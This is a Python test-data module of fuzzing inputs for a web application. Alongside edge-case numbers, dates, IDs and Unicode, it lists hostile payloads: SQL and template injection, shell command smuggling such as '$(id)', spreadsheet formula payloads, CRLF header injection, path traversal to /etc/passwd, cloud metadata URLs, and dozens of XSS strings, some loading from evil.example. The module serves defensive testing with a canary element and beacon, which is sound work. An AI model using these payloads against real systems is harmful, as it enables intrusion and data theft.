# ruff: noqa: E501 - payloads stand whole
"""What is typed by those who mean harm, and by those who paste. Data only; the campaigns combine and mutate it.

Every text that tries to become markup carries the made-up element `vvx` or calls the beacon `__ran`: neither may
ever stand unescaped in a page, or run in one.
"""

NUL, BOM = "\x00", "\ufeff"
RTL, RTL_MARK = "\u202e", "\u200f"
CANARY = "vvx"
BEACON = "__ran"

HUGE = ["A" * 10_000, "ö" * 70_000, "😀" * 40_000, "9" * 5_000, "(" * 20_000, "a," * 30_000, " " * 50_000]

NUMBERS = [
    "0", "-1", "1.5", "1e309", "-0", "NaN", "Infinity", "0x10", "007", "1_000", "٣", "²", "½", "１２",
    "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "1" * 30,
    "99999999999999999999999999999999", "1,5", "1 000", "\u2212 1", "1;2", "true", "null", "[]", "{}",
]  # fmt: skip

DATES = [
    "2024-02-29", "2023-02-29", "2100-02-29", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "1900-01-00",
    "2026-13-01", "29 februari", "20260229", "2026-02-30T25:61", "2026-10-25 02:30", "2026-03-29 02:30",
    "-1-1-1", "2026-1-1", "٢٠٢٦-٠١-٠١", "24:00", "25:61", "-1:00", "12:60", "00:00:00.0000000001", "1", "tomorrow",
]  # fmt: skip

IDS = [
    "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{6f9f1b0e}", "6f9f1b0e",
    "6F9F1B0E-3C0B-4B57-9A3E-0F3B3A1D0C11", "urn:uuid:6f9f1b0e-3c0b-4b57-9a3e-0f3b3a1d0c11",
    "6f9f1b0e-3c0b-4b57-9a3e-0f3b3a1d0c1g", "person:1", "group:0", "person:999999999999", "person:٣", "group:-1",
    "person:1\n", "all", "None", "undefined", "..", "../../etc/passwd", "%2e%2e%2f", "....//", "C:\\", "//evil",
]  # fmt: skip

TEXTS = [
    "", " ", "\t", "\r\n", "\n" * 300, NUL, f"före{NUL}efter", BOM, "\u2028", "\u2029", "\x1b[31m", "\x7f", "\x85",
    "\u200b", "\u200d", "e\u0301", "ﷺ", "Ⅷ", "İ", "ß", "ﬀ", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "😀", "🏳️‍🌈",
    f"{RTL}tnemucod{RTL_MARK}", "مرحبا", "שלום", "Z\u0335\u0321" * 60, "\ud7ff", "\ue000", "\ufffe", "\uffff", "\U0010ffff",
    "Robert'); DROP TABLE cases_case;--", "' OR '1'='1", "1; select pg_sleep(5)", "\\", "'", '"', "''", "%", "_", "%s", "%(a)s",
    "%n%n%n", "{0}", "{}", "{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "$(id)", "`id`", "|id", "; ls",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "a\r\nSet-Cookie: sid=1", "a\nBcc: x@evil.example", "javascript:__ran()", "data:text/html,<vvx>", "//evil.example/",
    "https://evil.example/", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "\\\\evil\\share", "mailto:a",
    "19121212-1212", "191212121212", "20240229-2386", "121212+1212", "700101-0000", "0740605", "+46701740605", "+" * 40, "112",
    "a@b", "a@b.se\n", "\"><\"@x.se", "å@ö.se", "a" * 64 + "@" + "b" * 190 + ".se", "xn--", "(?:a+)+$", "a" * 40 + "!",
    "sv", "sv;q=2", "*", "e" * 300, "zh-Hant-TW", "../sv", "on", "off", "1", "A" * 301, "A" * 4001, "x" * 20_001,
]  # fmt: skip

# Each tries one way into another context. `{go}` becomes the beacon's call.
MARKUP = [
    "<script>{go}</script><vvx>", "<img src=x onerror={go}><vvx>", "\"><svg onload={go}><vvx>", "'><vvx onclick={go}>",
    "</title><script>{go}</script><vvx>", "</textarea><script>{go}</script><vvx>", "</script><script>{go}</script><vvx>",
    "\" autofocus onfocus={go} x=\"<vvx>", "' onmouseover='{go}' '<vvx>", "<iframe srcdoc='<script>{go}</script>'><vvx>",
    "<a href=\"javascript:{go}\">x</a><vvx>", "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={go} src>\"><vvx>",
    "<details open ontoggle={go}><vvx>", "<video><source onerror={go}></video><vvx>", "<object data=\"javascript:{go}\"><vvx>",
    "<base href=\"https://evil.example/\"><vvx>", "<meta http-equiv=refresh content=\"0;url=javascript:{go}\"><vvx>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><vvx>", "<form action=\"https://evil.example\"><vvx>",
    "<style>@import 'https://evil.example/x.css';</style><vvx>", "<img src=\"https://evil.example/pixel\"><vvx>",
    "<div hx-get=\"https://evil.example/\" hx-trigger=load><vvx>", "<div data-hx-on::load=\"{go}\" hx-on:load=\"{go}\"><vvx>",
    "<button form=reply formaction=\"https://evil.example\"><vvx>", "<!--><script>{go}</script>--><vvx>", "<![CDATA[<vvx>]]>",
    "&lt;vvx&gt;&#60;script&#62;{go}&#60;/script&#62;", "\\u003cvvx\\u003e\\u003cscript\\u003e{go}", "＜script＞{go}＜/script＞<vvx>",
    "<scr\x00ipt>{go}</script><vvx>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><vvx>", "';{go};//<vvx>", "\";{go};//<vvx>",
    "`${{{go}}}`<vvx>", "{{constructor.constructor('{go}')()}}<vvx>", "[x](javascript:{go})<vvx>", "https://x.example/\"onclick={go}//<vvx>",
    "https://x.example/<script>{go}</script><vvx>", "https://\"><img src=x onerror={go}><vvx>", "http://a'onmouseover='{go}<vvx>",
    "<svg><animate onbegin={go} attributeName=x dur=1s><vvx>", "<input type=image src=x onerror={go}><vvx>",
    "<template><script>{go}</script></template><vvx>", "<noscript><p title=\"</noscript><img src=x onerror={go}>\"><vvx>",
    "<select><vvx></select><img src=x onerror={go}>", "<a id=__proto__><a id=location name=href><vvx>", "<embed src=javascript:{go}><vvx>",
    "<marquee onstart={go}><vvx>", "<x contenteditable onbeforeinput={go} autofocus><vvx>", "<body onpageshow={go}><vvx>",
]  # fmt: skip


def markup(go: str = f"{BEACON}(1)") -> list[str]:
    return [one.replace("{go}", go) for one in MARKUP]


ANYTHING: list[str] = [*TEXTS, *NUMBERS, *DATES, *IDS, *markup()]

# Percent-encoded bytes as they may stand in an address or a form: not UTF-8, half of it, overlong, surrogates.
BYTES = [b"\xff", b"\xc0\xaf", b"\xe2\x82", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"%00", b"%", b"%zz", b"%u0041", b"%C3%28",
         b"a%ED%A0%80", b"\x80\x81\x82", b"&&&&", b"====", b";a=b;", b"a[]=1&a[b][c]=2", b"+%2B%20", b"%0d%0aX-A:%201"]  # fmt: skip

CONTENT_TYPES = [
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=latin1", "application/x-www-form-urlencoded; charset=does-not-exist",
    "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "x" * 300,
    "multipart/form-data; boundary=ö", 'multipart/form-data; boundary="a"; charset=utf-7', "multipart/mixed; boundary=a",
    "application/json", "text/xml", "text/plain; charset=utf-32", "", "/", "a/b; c", "application/x-www-form-urlencoded; charset=zlib",
    "multipart/form-data; boundary=a; charset=utf-16",
]  # fmt: skip

HEADERS = {
    "Accept-Language": ["*", "sv;q=9", "sv-SE,sv;q=0.8" * 300, "en;q=" + "1" * 5000, "\xff", "../en", ",,,,", "zh_Hans", "a" * 5000, "sv\x00"],
    "Referer": ["http://testserver/", "http://testserver//evil.example/", "javascript:1", "http://[::1", "http://[", "\xff\xfe", "//", "http://testserver/\\evil", "http://testserver/?" + "a" * 9000,
                "http://testserver/%ff%00", "http://testserver:99999/", "http://testserver/\r\nX: y"],
    "HX-Current-URL": ["http://testserver/", "http://[", "javascript:1", "http://testserver//evil.example", "\xff", "http://testserver/%00"],
    "HX-Request": ["true", "false", "\xff"], "HX-Target": ["\xff<vvx>", "a" * 9000], "HX-Trigger": ["<vvx>"],
    "X-Requested-With": ["live", "attach", "background", "XMLHttpRequest", "\xff"],
    "User-Agent": ["", "\xff" * 200, "A" * 20_000, "<vvx>", "Mozilla/5.0 (iPhone; " + "(" * 5000, "\x00"],
    "X-Forwarded-For": ["1.2.3.4", "::ffff:1.2.3.4", "not-an-address", "1.2.3.4," * 2000, "\xff", "127.0.0.1\x00"],
    "X-Forwarded-Host": ["evil.example"], "X-Forwarded-Proto": ["https"], "X-Request-ID": ["a" * 36, "<vvx>", "\xff", "\r\n"],
    "Authorization": ["Bearer x", "Basic " + "=" * 999, "Bearer \xff", "\xff"], "Sec-Fetch-Site": ["same-origin", "SAME-ORIGIN", "x" * 5000],
    "Origin": ["http://testserver"], "If-Modified-Since": ["Thu, 29 Feb 2100 00:00:00 GMT", "0", "\xff", "Thu, 01 Jan 99999 00:00:00 GMT"],
    "If-None-Match": ["*", '"' * 999, "\xff"], "Range": ["bytes=0-", "bytes=-1", "bytes=9-1", "bytes=0-0,1-1,2-2", "bytes=" + "9" * 400, "x"],
    "Content-Encoding": ["gzip", "br"],
    "Transfer-Encoding": ["chunked"], "Accept": ["application/json", "*/*;q=" + "9" * 999, "\xff"], "Accept-Encoding": ["identity;q=0", "\xff", "gzip;q=x"],
    "Host": ["testserver", "testserver:80", "TESTSERVER", "localhost:99999"], "X-HTTP-Method-Override": ["DELETE"], "Expect": ["100-continue"],
    "X-CSRFToken": ["", "\xff", "a" * 9000], "Forwarded": ["for=1.2.3.4;host=evil.example"], "Cookie": ["", "=", "sid", "; ; ;", "a=b" * 9000, "sid=\xff", "\x00"],
}  # fmt: skip
